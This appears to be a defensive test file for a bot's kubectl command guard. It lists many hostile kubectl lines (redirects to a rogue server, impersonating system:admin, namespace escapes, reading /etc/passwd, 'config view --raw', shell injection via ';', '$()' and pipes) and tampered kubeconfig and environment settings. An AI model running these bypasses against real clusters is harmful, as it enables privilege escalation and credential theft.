import { execFile } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { parseKubectl } from "../../src/kubernetes/parse-kubectl.ts";
import { findProgram } from "../../src/kubernetes/place.ts";
import { writePlan } from "../../src/kubernetes/run.ts";
import { useStarted } from "../harness/use-started.ts";
import { startApiServer } from "./api-server.ts";
import { clusterServer, hasKubectl, run, runnerFor } from "./world.ts";

/** Ways that a line itself tries; EVIL is the other cluster, MARK a file that a shell or a program would make. */
const lines: readonly string[] = [
  "kubectl --server=EVIL get pods",
  "kubectl get pods -s EVIL",
  "kubectl get pods --server EVIL --insecure-skip-tls-verify",
  "kubectl get pods --kubeconfig=HOME/.kube/config",
  "kubectl get pods --kubeconfig HOME/.kube/config",
  "kubectl --context=other get pods",
  "kubectl get pods --cluster=other",
  "kubectl get pods --user admin",
  "kubectl get pods --token=61646d696e",
  "kubectl get pods --as=system:admin",
  "kubectl get pods --as_group=system:masters --as=x",
  "kubectl get pods -n kube-system",
  "kubectl get pods -n=kube-system",
  "kubectl get pods -wnkube-system",
  "kubectl get pods --namespace shop -n kube-system",
  "kubectl get pods -A",
  "kubectl get pods --all-namespaces=true",
  "kubectl get pods '-n' 'kube-system'",
  'kubectl get pods "--namespace=kube-system"',
  "kubectl get pods -l app=web\\ -n\\ kube-system",
  "kubectl get pods -l 'app=web --namespace=kube-system'",
  "kubectl get 'pods --namespace=kube-system'",
  "kubectl get pods ../../kube-system/pods/x",
  "kubectl get pod '..'",
  "kubectl get pod 'x/../../../kube-system/pods/y'",
  "kubectl get pod '%2e%2e%2f%2e%2e%2fkube-system'",
  "kubectl get pod 'x?namespace=kube-system'",
  "kubectl logs ../../kube-system/pods/x/log",
  "kubectl logs '..%2Fx'",
  "kubectl get pods --field-selector metadata.namespace=kube-system",
  "kubectl get pods --subresource=../../../kube-system",
  "kubectl patch vm '../../kube-system/x' -p '{}'",
  'kubectl patch deploy web --type=merge -p \'{"metadata":{"namespace":"kube-system"}}\'',
  "kubectl get --raw /api/v1/namespaces/kube-system/pods",
  "kubectl get pods -o go-template='{{.}}'",
  "kubectl get pods -o template --template=HOME/t",
  "kubectl get pods -o jsonpath-file=/etc/passwd",
  "kubectl get pods -o custom-columns-file=/etc/passwd",
  "kubectl get -f EVIL/x.yaml",
  "kubectl apply -f EVIL/x.yaml",
  "kubectl delete -k HOME",
  "kubectl config use-context other",
  "kubectl config view --raw",
  "kubectl exec deploy/web -- sh -c 'touch MARK'",
  "kubectl debug deploy/web --image=x -- touch MARK",
  "kubectl run x --image=x -- touch MARK",
  "kubectl cp shop/web:/etc/passwd MARK",
  "kubectl port-forward deploy/web 8080",
  "kubectl proxy --port=0",
  "kubectl edit deploy web",
  "kubectl evil",
  "kubectl create evil",
  "kubectl getpods",
  "kubectl plugin list",
  "HOME/bin/kubectl get pods",
  "KUBECONFIG=HOME/.kube/config kubectl get pods",
  "env KUBECONFIG=HOME/.kube/config kubectl get pods",
  "kubectl get pods; touch MARK",
  "kubectl get pods $(touch MARK)",
  "kubectl get pods | sh -c 'touch MARK'",
  "kubectl get pods | xargs touch MARK",
  "kubectl get pods | tee MARK",
  "kubectl get pods | sort -o MARK",
  "kubectl get pods > MARK",
  "kubectl get pods --cache-dir=HOME/evil",
  "kubectl get pods --profile=cpu --profile-output=MARK",
  "kubectl get pods -v=9",
  "kubectl patch machineconfig worker -p '{}'",
  "kubectl delete mc.v1.machineconfiguration.openshift.io worker",
  "kubectl patch rolebinding x -p '{}'",
  "kubectl patch rolebindings.v1.rbac.authorization.k8s.io x -p '{}'",
  "kubectl label node/worker-1 a=b",
  "kubectl get pods | grep -c .",
];

describe.runIf(hasKubectl)("ways to another cluster, identity or namespace, or to a shell", () => {
  let home: string;
  const users = new Set<string>();
  const mark = (): string => join(home, "mark");
  const user = "system:serviceaccount:ops:countersign";

  const api = useStarted(() => startApiServer((who) => users.add(who) !== undefined));
  const evil = useStarted(() => startApiServer());
  beforeAll(() => {
    home = join(evil.folder, "home");
    for (const folder of [".kube", "bin"]) mkdirSync(join(home, folder), { recursive: true });
    const config = readFileSync(evil.kubeconfig("admin"), "utf8").replace(
      '"current-context":"other"',
      '"current-context":"prod"',
    );
    writeFileSync(
      join(home, ".kube/config"),
      config.replaceAll('"ca.pem"', JSON.stringify(join(evil.folder, "ca.pem"))),
    );
    writeFileSync(
      join(home, ".kube/kuberc"),
      "apiVersion: kubectl.config.k8s.io/v1alpha1\nkind: Preference\noverrides:\n- command: get\n  flags:\n  - name: namespace\n    default: kube-system\n",
    );
    for (const name of ["kubectl-evil", "kubectl-get", "kubectl-create-evil", "grep"]) {
      writeFileSync(join(home, "bin", name), `#!/bin/sh\n/bin/touch ${mark()}\n`);
      chmodSync(join(home, "bin", name), 0o755);
    }
    symlinkSync(findProgram("kubectl") ?? "", join(home, "bin/kubectl"));
  });
  afterEach(() => vi.unstubAllEnvs());

  /** What the bot's own environment could say. */
  const hostile = (): Readonly<Record<string, string>> => ({
    HOME: home,
    PATH: `${join(home, "bin")}:/usr/bin:/bin`,
    KUBECONFIG: join(home, ".kube/config"),
    KUBERC: join(home, ".kube/kuberc"),
    KUBECTL_KUBERC: "true",
    KUBE_EDITOR: `/bin/touch ${mark()}`,
    KUBECTL_EXTERNAL_DIFF: `/bin/touch ${mark()}`,
    KUBERNETES_MASTER: evil.url,
    HTTPS_PROXY: evil.url.replace("https", "http"),
    ALL_PROXY: evil.url.replace("https", "http"),
    POD_NAMESPACE: "kube-system",
  });
  const isInside = (request: string): boolean =>
    /^[A-Z]+ \/apis?\/[^ ]*\/namespaces\/shop(?:\/[a-z]+(?:\/[^ /]+(?:\/[a-z]+)?)?)?$/.test(request);

  it("the traps are real: bare kubectl falls into them", async () => {
    const start = promisify(execFile);
    await start("kubectl", ["get", "pods"], {
      env: { HOME: home, PATH: "/usr/bin:/bin", KUBECONFIG: join(home, ".kube/config") },
    });
    expect(evil.requests).toEqual(["GET /api/v1/namespaces/kube-system/pods"]);
    evil.requests.length = 0;
    expect(existsSync(mark())).toBe(false);
    await start("kubectl", ["evil"], { env: { HOME: home, PATH: `${join(home, "bin")}:/usr/bin:/bin` } });
    expect(existsSync(mark())).toBe(true);
    await start("/bin/rm", [mark()]);
  });

  it("SR-10 SR-20 of all lines none gets there with the real kubectl", async () => {
    for (const [name, value] of Object.entries(hostile())) vi.stubEnv(name, value);
    const kubernetes = runnerFor();
    const on = { ...clusterServer(api.kubeconfig()), hardTimeoutMs: 10_000 };
    const got: string[] = [];
    let ran = 0;
    for (const written of lines) {
      const line = written.replaceAll("EVIL", evil.url).replaceAll("MARK", mark()).replaceAll("HOME", home);
      api.requests.length = 0;
      if (parseKubectl(line, ["shop"]).ok) {
        ran++;
        await run(on, line, { kubernetes }).catch(() => undefined);
      }
      const out = api.requests.filter((request) => !isInside(request));
      if (out.length > 0 || evil.requests.length > 0 || existsSync(mark()))
        got.push(`${line}: ${[...out, ...evil.requests]}`);
    }
    kubernetes.close();
    expect(got).toEqual([]);
    expect([...users]).toEqual([user]);
    expect(lines.length).toBeGreaterThan(60);
    expect(ran).toBeGreaterThan(5);
  });

  /** Changes of the kubeconfig between the proof and the command. */
  const edits: Readonly<Record<string, (config: string) => string>> = {
    "another server": (config) => config.replace(api.url, evil.url),
    "another certificate authority": (config) =>
      config.replace('"ca.pem"', JSON.stringify(join(evil.folder, "ca.pem"))),
    "another token": (config) =>
      config.replace(Buffer.from(user).toString("hex"), Buffer.from("admin").toString("hex")),
    "a program to log in": (config) =>
      config.replace(/"token":"[^"]*"/, `"exec":{"command":"/bin/touch","args":["${mark()}"]}`),
    "another user": (config) => config.replace('"user":"bot"', '"user":"admin"'),
    "no verification": (config) =>
      config.replace('"certificate-authority":"ca.pem"', '"insecure-skip-tls-verify":true'),
    "a proxy": (config) =>
      config.replace(
        '"certificate-authority"',
        `"proxy-url":"${evil.url.replace("https", "http")}","certificate-authority"`,
      ),
    "no https": (config) => config.replace("https://", "http://"),
  };
  it.each(Object.entries(edits))(
    "SR-51 a kubeconfig that gets %s after the proof: nothing is sent",
    async (_, edit) => {
      const file = api.kubeconfig();
      const order = { server: clusterServer(file), wrapped: planOf("kubectl delete pod batch-1") };
      const kubernetes = runnerFor(undefined, { requestMs: 3_000 });
      const reservation = await kubernetes.reserve(order, new AbortController().signal);
      expect(await reservation.prove()).toBeUndefined();
      writeFileSync(file, edit(readFileSync(file, "utf8")));
      expect(await reservation.prove()).toEqual(expect.any(String));
      reservation.release();
      kubernetes.close();
      expect(evil.requests).toEqual([]);
      expect(existsSync(mark())).toBe(false);
    },
  );

  it("SR-51 a token file that names somebody else after the proof: nothing is sent", async () => {
    const file = api.kubeconfig();
    const token = join(api.folder, "token");
    writeFileSync(token, Buffer.from(user).toString("hex"));
    writeFileSync(file, readFileSync(file, "utf8").replace(/"token":"[^"]*"/, `"tokenFile":"${token}"`));
    const order = { server: clusterServer(file), wrapped: planOf("kubectl delete pod batch-1") };
    const kubernetes = runnerFor();
    const reservation = await kubernetes.reserve(order, new AbortController().signal);
    expect(await reservation.prove()).toBeUndefined();
    writeFileSync(token, Buffer.from("admin").toString("hex"));
    expect(await reservation.prove()).toContain("the bot is admin on prod-eu");
    kubernetes.close();
  });
});

function planOf(line: string): string {
  const parsed = parseKubectl(line, ["shop"]);
  if (!parsed.ok) throw new Error(parsed.reason);
  return writePlan(parsed.plan);
}
